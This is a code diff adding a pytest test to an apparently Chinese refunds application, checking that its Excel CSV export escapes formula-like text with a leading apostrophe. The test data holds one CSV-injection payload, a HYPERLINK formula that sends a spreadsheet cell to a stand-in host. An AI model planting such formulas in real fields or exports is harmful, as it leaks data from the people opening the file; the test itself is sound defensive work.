@@ -325,3 +325,27 @@ def test_asking_again_too_soon_keeps_the_code_field(
     assert code is not None
     opened = public.post("/refunds/progress/", {**base, "step": "open", "code": code.group(1)})
     assert opened.status_code == 303
+
+
+@pytest.mark.usefixtures("records", "frozen")
+def test_the_export_for_excel_does_not_carry_formulas(
+    actors: dict[str, User], open_programme: Programme
+) -> None:
+    """The export is written for Excel (UTF-8 with a BOM); a bank name the enterprise typed as
+    =HYPERLINK(...) was a formula in the officer's spreadsheet. Text that starts like a formula
+    is kept as text (a leading apostrophe); the bank's transfer file keeps what was typed."""
+    import csv
+    import io
+
+    from certhall.refunds import services
+    from certhall.refunds.services import BankAccount
+
+    typed = '=HYPERLINK("http://e.example/?x="&A1,"银行")'
+    application = services.apply_online(
+        actors["applicant"], "sz-2021", BankAccount(NAME, ACCOUNT, typed), phone=PHONE
+    )
+    export = client_for(actors["officer"]).get("/refunds/console/export.csv?programme=sz-2021")
+    rows = list(csv.DictReader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert [row["application"] for row in rows] == [application.number]
+    assert rows[0]["bank_name"] == "'" + typed
+    assert rows[0]["amount_yuan"] == "300.00" and rows[0]["enterprise_name"] == NAME
